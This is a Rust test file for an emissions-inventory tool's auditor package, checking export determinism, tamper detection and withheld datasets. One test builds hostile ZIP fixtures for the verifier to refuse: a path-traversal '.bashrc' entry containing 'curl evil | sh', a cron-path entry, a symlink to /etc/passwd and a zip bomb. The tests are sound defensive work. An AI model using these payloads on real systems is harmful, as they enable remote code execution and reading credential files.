//! The auditor's package (decision 0024): export → verify passes; the same file gives the same
//! bytes; each kind of tampering is found and named; unsafe ZIPs are refused; a dataset that may
//! not be redistributed is withheld; `verify.py` (Python, standard library only) agrees with
//! `scopebook calc --db --format json`.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::BTreeMap;
use std::io::{Cursor, Write as _};
use std::path::{Path, PathBuf};
use std::process::Command;

use scopebook_core::diagnostic::Code;
use scopebook_core::library::FactorLibrary;
use scopebook_package::{archive, export, seal, verify, ExportOptions, Verification};
use scopebook_store::{ActivityInput, Consolidation, FacilityKind, NewFacility, NewOrganisation, NewPeriod, Store};

fn bin() -> &'static str {
    env!("CARGO_BIN_EXE_scopebook")
}

fn input(facility: &str, activity: &str, quantity: &str, unit: &str, evidence: &str) -> ActivityInput {
    ActivityInput {
        facility: facility.into(),
        activity: activity.into(),
        quantity: quantity.into(),
        unit: unit.into(),
        start: "2023-01-01".into(),
        end: "2023-12-31".into(),
        evidence: Some(evidence.into()),
        ..ActivityInput::default()
    }
}

/// An equity-share organisation: a 60 % holding owning 50 % of a Suzhou plant (electricity,
/// natural gas, coal with its own measured NCV), and a Leeds depot (diesel, R-410A), locked.
fn inventory(dir: &Path, lib: &FactorLibrary, extra: &[ActivityInput]) -> PathBuf {
    let db = dir.join("inventory.db");
    let org = NewOrganisation { name: "Acme (Suzhou) Co., Ltd.".into(), consolidation: Consolidation::EquityShare };
    let mut s = Store::create(&db, &org, "preparer").unwrap();
    let mut hold = NewFacility::new("HOLD", "Acme Holding", "CN-JS");
    hold.kind = FacilityKind::LegalEntity;
    hold.equity_share = Some("60".into());
    s.add_facility(&hold).unwrap();
    let mut sz = NewFacility::new("SZ", "Suzhou plant", "CN-JS");
    sz.parent = Some("HOLD".into());
    sz.equity_share = Some("50".into());
    s.add_facility(&sz).unwrap();
    s.add_facility(&NewFacility::new("LDS", "Leeds depot", "GB")).unwrap();
    s.add_period(lib, &NewPeriod::year(2023)).unwrap();
    let mut coal = input("SZ", "bituminous_coal", "1250.5", "t", "COAL-WB-2023");
    coal.ncv_gj_per_unit = Some("22.4".into());
    coal.parameter_source = Some("measured".into());
    let mut diesel = input("LDS", "diesel", "3200", "L", "FUEL-1");
    diesel.factor = Some("desnz2024.diesel.l".into());
    let mut records = vec![
        input("SZ", "grid_electricity", "1862400", "kWh", "SGCC-JS-2023-12"),
        input("SZ", "natural_gas", "12.5", "10^4 Nm3", "GAS-2023"),
        coal,
        diesel,
        input("LDS", "refrigerant_topup_r_410a", "2.5", "kg", "SVC-9"),
    ];
    records.extend(extra.iter().cloned());
    for r in &records {
        s.add_activity(lib, 2023, r).unwrap_or_else(|e| panic!("{}: {e}", r.activity));
    }
    s.lock_period(lib, 2023).unwrap();
    db
}

fn package(db: &Path, lib: &FactorLibrary) -> Vec<u8> {
    let s = Store::open(db, "auditor").unwrap();
    export(&s, lib, 2023, &ExportOptions::default()).unwrap().bytes
}

fn codes(v: &Verification) -> Vec<(Code, String)> {
    v.findings.iter().map(|d| (d.code, d.to_string())).collect()
}

fn has(v: &Verification, code: Code, text: &str) -> bool {
    v.findings.iter().any(|d| d.code == code && d.to_string().contains(text))
}

/// The package's files changed by `edit`; `reseal` recomputes the manifest as a forger would.
fn tampered(bytes: &[u8], reseal: bool, edit: impl FnOnce(&mut BTreeMap<String, Vec<u8>>)) -> Vec<u8> {
    let mut files = archive::read(bytes).unwrap();
    edit(&mut files);
    if reseal {
        seal(&mut files, "Acme (Suzhou) Co., Ltd.", 2023);
    }
    archive::write(&files).unwrap()
}

fn replace(files: &mut BTreeMap<String, Vec<u8>>, path: &str, from: &str, to: &str) {
    let text = String::from_utf8(files[path].clone()).unwrap();
    assert!(text.contains(from), "{path} has no {from:?}");
    files.insert(path.into(), text.replacen(from, to, 1).into_bytes());
}

#[test]
fn a_package_verifies_is_deterministic_and_names_every_tampering() {
    let dir = tempfile::tempdir().unwrap();
    let lib = FactorLibrary::shipped().0;
    let db = inventory(dir.path(), &lib, &[]);
    let start = std::time::Instant::now();
    let one = package(&db, &lib);
    eprintln!("package: {} bytes in {:?}", one.len(), start.elapsed());
    assert_eq!(one, package(&db, &lib), "the same file gave different bytes");

    let v = verify("pkg.zip", &one);
    assert!(v.verified, "{:#?}", codes(&v));
    assert_eq!((v.records, v.lines, v.recomputed, v.withheld), (5, 5, 5, 0));
    assert!(v.totals.iter().any(|t| t.total == "totals.scope1" && t.status == "ok"));
    let files = archive::read(&one).unwrap();
    for f in [
        "README.md",
        "verify.py",
        "manifest.json",
        "SHA256SUMS",
        "audit/log.jsonl",
        "snapshot/report.json",
        "evidence/index.csv",
    ] {
        assert!(files.contains_key(f), "{f} is missing");
    }
    assert!(String::from_utf8_lossy(&files["README.md"]).contains("审计数据包"));

    // A quantity changed, the manifest left alone: the file's hash no longer matches.
    let bad = tampered(&one, false, |f| replace(f, "data/activities.csv", "1862400", "1682400"));
    let v = verify("pkg.zip", &bad);
    assert!(!v.verified);
    assert!(has(&v, Code::ChecksumMismatch, "data/activities.csv"), "{:#?}", codes(&v));
    assert!(has(&v, Code::ChecksumMismatch, "manifest.json"), "root hash: {:#?}", codes(&v));

    // The same change by a forger who recomputes the manifest: the row no longer matches its
    // stored record, which the audit chain holds.
    let bad = tampered(&one, true, |f| replace(f, "data/activities.csv", "1862400", "1682400"));
    let v = verify("pkg.zip", &bad);
    assert!(has(&v, Code::AuditDataMismatch, "data/activities.csv:2"), "{:#?}", codes(&v));

    // ... and who also rewrites the stored record: it no longer matches its audit entry.
    let bad = tampered(&one, true, |f| {
        replace(f, "data/activities.csv", "1862400", "1682400");
        replace(f, "data/records.json", "1862400", "1682400");
    });
    let v = verify("pkg.zip", &bad);
    assert!(has(&v, Code::AuditDataMismatch, "activity 1 differs from its last entry"), "{:#?}", codes(&v));

    // A factor value changed in the package's factor file (manifest resealed).
    let bad = tampered(&one, true, |f| {
        let path = "factors/cn-mee-nbs-grid/2023/factors.csv";
        let text = String::from_utf8(f[path].clone()).unwrap();
        let line = text.lines().find(|l| l.starts_with("cn-grid.2023.CN-JS,")).unwrap().to_string();
        let changed = line.replacen(",0.", ",0.1", 1);
        f.insert(path.into(), text.replacen(&line, &changed, 1).into_bytes());
    });
    let v = verify("pkg.zip", &bad);
    assert!(has(&v, Code::ChecksumMismatch, "factors/cn-mee-nbs-grid/2023/factors.csv"), "{:#?}", codes(&v));
    assert!(has(&v, Code::FigureMismatch, "record 1 (SZ, grid_electricity)"), "{:#?}", codes(&v));

    // An audit entry changed; entries reordered.
    let bad = tampered(&one, true, |f| replace(f, "audit/log.jsonl", "Suzhou plant", "Suzhou works"));
    let v = verify("pkg.zip", &bad);
    assert!(has(&v, Code::AuditChainBroken, "audit/log.jsonl:"), "{:#?}", codes(&v));
    let bad = tampered(&one, true, |f| {
        let text = String::from_utf8(f["audit/log.jsonl"].clone()).unwrap();
        let mut lines: Vec<&str> = text.lines().collect();
        lines.swap(2, 3);
        f.insert("audit/log.jsonl".into(), (lines.join("\n") + "\n").into_bytes());
    });
    let v = verify("pkg.zip", &bad);
    assert!(has(&v, Code::AuditChainBroken, "audit/log.jsonl:3"), "{:#?}", codes(&v));

    // One hash in the manifest changed.
    let bad = tampered(&one, false, |f| {
        let sha = scopebook_core::dataset::sha256_hex(&f["results/report.json"]);
        replace(f, "manifest.json", &sha, &"0".repeat(64));
    });
    let v = verify("pkg.zip", &bad);
    assert!(has(&v, Code::ChecksumMismatch, "results/report.json"), "{:#?}", codes(&v));
    assert!(has(&v, Code::ChecksumMismatch, "root_hash"), "{:#?}", codes(&v));

    // A line's figure and a total changed in the report; a line removed.
    let bad = tampered(&one, true, |f| replace(f, "results/report.json", "\"scope1\": \"", "\"scope1\": \"1"));
    let v = verify("pkg.zip", &bad);
    assert!(has(&v, Code::FigureMismatch, "total totals.scope1"), "{:#?}", codes(&v));
    fixture("figure-mismatch", &bad);
    let bad = tampered(&one, true, |f| {
        let mut r: serde_json::Value = serde_json::from_slice(&f["results/report.json"]).unwrap();
        r["lines"].as_array_mut().unwrap().remove(1);
        f.insert("results/report.json".into(), serde_json::to_vec_pretty(&r).unwrap());
    });
    let v = verify("pkg.zip", &bad);
    assert!(has(&v, Code::FigureMismatch, "record 2 has no line"), "{:#?}", codes(&v));
    assert!(v.findings.iter().any(|d| d.code == Code::FigureMismatch && d.message.starts_with("total ")));

    // The snapshot's report swapped for the fresh one.
    let bad = tampered(&one, true, |f| {
        let fresh = f["results/report.json"].clone();
        let mut other = fresh.clone();
        other.extend_from_slice(b" ");
        f.insert("snapshot/report.json".into(), other);
    });
    let v = verify("pkg.zip", &bad);
    assert!(has(&v, Code::ChecksumMismatch, "snapshot/report.json"), "{:#?}", codes(&v));
}

#[test]
fn unsafe_packages_are_refused_before_anything_is_extracted() {
    let write = |name: &str, bytes: &[u8], symlink: bool| {
        let mut z = zip::ZipWriter::new(Cursor::new(Vec::new()));
        let o = zip::write::SimpleFileOptions::default();
        if symlink {
            z.add_symlink(name, "/etc/passwd", o).unwrap();
        } else {
            z.start_file(name, o).unwrap();
            z.write_all(bytes).unwrap();
        }
        z.finish().unwrap().into_inner()
    };
    let v = verify("evil.zip", &write("../../.bashrc", b"curl evil | sh", false));
    assert!(has(&v, Code::WrongFileType, "\"../../.bashrc\" is unsafe"), "{:#?}", codes(&v));
    let v = verify("evil.zip", &write("/etc/cron.d/x", b"x", false));
    assert!(has(&v, Code::WrongFileType, "absolute path"), "{:#?}", codes(&v));
    let v = verify("evil.zip", &write("manifest.json", b"", true));
    assert!(has(&v, Code::WrongFileType, "symbolic link"), "{:#?}", codes(&v));
    let v = verify("bomb.zip", &write("data/activities.csv", &vec![b'0'; 64 << 20], false));
    assert!(has(&v, Code::FileTooLarge, "would inflate"), "{:#?}", codes(&v));
    let v = verify("bills.pdf", b"%PDF-1.7 not a zip");
    assert!(has(&v, Code::WrongFileType, "not a readable ZIP"), "{:#?}", codes(&v));
}

const USER_FACTORS: &str = "id,activity,scope,category,unit,co2_kg,ch4_kg,n2o_kg,co2e_kg,biogenic_co2_kg,other_gas,other_gas_kg,ncv_gj_per_unit,carbon_t_per_gj,oxidation,source,name,region,valid_from,valid_to,gwp_basis,verified\n\
acme.kiln-gas.2023,acme_kiln_gas,1,stationary,t,2750.5,0.1,0.01,,,,,,,,Acme lab report LR-2023-17,Kiln off-gas (Acme lab),CN-JS,2023-01-01,2023-12-31,,true\n";

#[test]
fn a_dataset_that_may_not_be_redistributed_is_withheld_and_its_lines_reported() {
    let dir = tempfile::tempdir().unwrap();
    let mut lib = FactorLibrary::shipped().0;
    let sha = scopebook_core::dataset::sha256_hex(USER_FACTORS.as_bytes());
    let meta = format!(
        "id = \"acme-lab\"\nedition = \"2023\"\ntitle = \"Acme lab factors\"\npublisher = \"Acme Labs\"\nregion = \"CN-JS\"\n\
         licence = \"Proprietary: licensed to Acme for its own use; no redistribution\"\nsource_url = \"https://example.com/lab\"\n\
         evidence = \"LR-2023-17\"\nredistributable = false\n[files]\nfactors = \"factors.csv\"\nsha256 = \"{sha}\"\n"
    );
    let diags = lib.add_user_dataset("acme-lab", &meta, &|_| Ok(USER_FACTORS.as_bytes().to_vec()));
    assert!(diags.is_empty(), "{diags:?}");
    let db = inventory(dir.path(), &lib, &[input("SZ", "acme_kiln_gas", "40", "t", "KILN-2023")]);
    let bytes = package(&db, &lib);
    let files = archive::read(&bytes).unwrap();
    assert!(files.contains_key("factors/acme-lab/2023/dataset.json"));
    assert!(!files.contains_key("factors/acme-lab/2023/factors.csv"), "a withheld file was packaged");
    assert!(String::from_utf8_lossy(&files["factors/used.csv"]).contains("acme.kiln-gas.2023,acme-lab,2023"));

    let v = verify("pkg.zip", &bytes);
    assert!(v.verified, "{:#?}", codes(&v));
    assert_eq!((v.lines, v.recomputed, v.withheld), (6, 5, 1));
    fixture("factor-withheld", &bytes);
    assert!(has(&v, Code::FactorWithheld, "1 line(s) use dataset acme-lab edition 2023"), "{:#?}", codes(&v));
    assert!(v.line_checks.iter().any(|l| l.status == "withheld" && l.activity == "acme_kiln_gas"));
    if let Some(out) = python(&bytes, dir.path()) {
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stdout));
        assert!(String::from_utf8_lossy(&out.stdout).contains("5 recomputed to the same figures, 1 withheld"));
    }
}

/// With `UPDATE_ERRORS=1`, write `bytes` as the error catalogue's package for `code`.
fn fixture(code: &str, bytes: &[u8]) {
    if std::env::var_os("UPDATE_ERRORS").is_some() {
        let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/errors").join(code).join("package.zip");
        std::fs::write(path, bytes).unwrap();
    }
}

/// `python3 verify.py` in the unzipped package, or `None` (with a note) when python3 is missing.
fn python(bytes: &[u8], dir: &Path) -> Option<std::process::Output> {
    if Command::new("python3").arg("--version").output().is_err() {
        eprintln!(
            "SKIPPED: python3 is not installed, so verify.py was not run (CI installs it: scripts/setup-system.sh)"
        );
        return None;
    }
    let out = dir.join("unzipped");
    for (path, b) in archive::read(bytes).unwrap() {
        let p = out.join(&path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, b).unwrap();
    }
    Some(Command::new("python3").arg(out.join("verify.py")).output().unwrap())
}

#[test]
fn the_cli_and_verify_py_agree_with_calc() {
    let dir = tempfile::tempdir().unwrap();
    let lib = FactorLibrary::shipped().0;
    inventory(dir.path(), &lib, &[]);
    let pkg = dir.path().join("pkg.zip");
    let run = |args: &[&str]| Command::new(bin()).args(args).current_dir(dir.path()).output().unwrap();
    let out = run(&["export-package", "--db", "inventory.db", "--period", "2023", "--out", "pkg.zip"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("root hash: "));
    let again = run(&["export-package", "--db", "inventory.db", "--period", "2023", "--out", "pkg.zip"]);
    assert_eq!(again.status.code(), Some(1), "an existing package was overwritten");
    let out = run(&["verify", "pkg.zip", "--format", "json"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["verified"], true);
    assert_eq!(v["recomputed"], 5);

    let calc = run(&["calc", "--db", "inventory.db", "--period", "2023", "--format", "json"]);
    let calc: serde_json::Value = serde_json::from_slice(&calc.stdout).unwrap();
    let bytes = std::fs::read(&pkg).unwrap();
    let Some(out) = python(&bytes, dir.path()) else { return };
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(out.status.success(), "verify.py failed:\n{text}{}", String::from_utf8_lossy(&out.stderr));
    for key in ["scope1", "scope2_location", "scope3", "biogenic_co2"] {
        let figure = calc["totals"][key].as_str().unwrap();
        let row = text.lines().find(|l| l.split_whitespace().next() == Some(key)).unwrap_or_default();
        let cells: Vec<&str> = row.split_whitespace().collect();
        assert_eq!(cells.get(1..4), Some(&[figure, figure, "ok"][..]), "verify.py's {key}: {row}");
    }

    // verify.py fails, naming what, on a changed quantity in a resealed package.
    let bad = tampered(&bytes, true, |f| {
        replace(f, "data/activities.csv", "12.5", "10.5");
        replace(f, "data/records.json", "12.5", "10.5");
    });
    std::fs::remove_dir_all(dir.path().join("unzipped")).unwrap();
    let out = python(&bad, dir.path()).unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("record 2 differs from its last audit entry"), "{text}");
    assert!(text.contains("record 2: SZ natural_gas: co2e_kg"), "{text}");
}

/// `verify.py` (Python's standard library only) fails, naming what, on each tampering the issue
/// lists that a package's files can carry (a name with `../` is the ZIP's, refused by `verify`
/// before anything is extracted, above; verify.py runs on a folder the auditor unzipped).
#[test]
fn verify_py_names_every_tampering() {
    let dir = tempfile::tempdir().unwrap();
    let lib = FactorLibrary::shipped().0;
    let db = inventory(dir.path(), &lib, &[]);
    let one = package(&db, &lib);
    let run = |name: &str, bytes: &[u8]| {
        let sub = dir.path().join(name);
        std::fs::create_dir_all(&sub).unwrap();
        python(bytes, &sub).map(|out| {
            let text = String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
            (out.status.code(), text)
        })
    };
    let Some((code, text)) = run("fresh", &one) else { return };
    assert_eq!(code, Some(0), "a fresh package: {text}");

    let factor = |f: &mut BTreeMap<String, Vec<u8>>| {
        let path = "factors/cn-mee-nbs-grid/2023/factors.csv";
        let text = String::from_utf8(f[path].clone()).unwrap();
        let line = text.lines().find(|l| l.starts_with("cn-grid.2023.CN-JS,")).unwrap().to_string();
        let changed = line.replacen(",0.", ",0.1", 1);
        f.insert(path.into(), text.replacen(&line, &changed, 1).into_bytes());
    };
    let reorder = |f: &mut BTreeMap<String, Vec<u8>>| {
        let text = String::from_utf8(f["audit/log.jsonl"].clone()).unwrap();
        let mut lines: Vec<&str> = text.lines().collect();
        lines.swap(2, 3);
        f.insert("audit/log.jsonl".into(), (lines.join("\n") + "\n").into_bytes());
    };
    let remove_line = |f: &mut BTreeMap<String, Vec<u8>>| {
        let mut r: serde_json::Value = serde_json::from_slice(&f["results/report.json"]).unwrap();
        r["lines"].as_array_mut().unwrap().remove(1);
        f.insert("results/report.json".into(), serde_json::to_vec_pretty(&r).unwrap());
    };
    let swap_report = |f: &mut BTreeMap<String, Vec<u8>>| {
        let mut other = f["results/report.json"].clone();
        other.extend_from_slice(b" ");
        f.insert("snapshot/report.json".into(), other);
    };
    let manifest = |f: &mut BTreeMap<String, Vec<u8>>| {
        let sha = scopebook_core::dataset::sha256_hex(&f["results/report.json"]);
        replace(f, "manifest.json", &sha, &"0".repeat(64));
    };
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "quantity",
            tampered(&one, false, |f| replace(f, "data/activities.csv", "1862400", "1682400")),
            "data/activities.csv",
        ),
        (
            "quantity-resealed",
            tampered(&one, true, |f| {
                replace(f, "data/activities.csv", "1862400", "1682400");
                replace(f, "data/records.json", "1862400", "1682400");
            }),
            "record 1",
        ),
        ("factor", tampered(&one, true, factor), "record 1"),
        ("removed-line", tampered(&one, true, remove_line), "record 2"),
        ("audit-order", tampered(&one, true, reorder), "audit"),
        ("swapped-report", tampered(&one, true, swap_report), "snapshot/report.json"),
        ("manifest", tampered(&one, false, manifest), "results/report.json"),
    ];
    for (name, bytes, names) in cases {
        let (code, text) = run(name, &bytes).unwrap();
        assert_eq!(code, Some(1), "{name}: verify.py passed a tampered package:\n{text}");
        assert!(text.contains(names), "{name}: verify.py does not name {names:?}:\n{text}");
    }
}
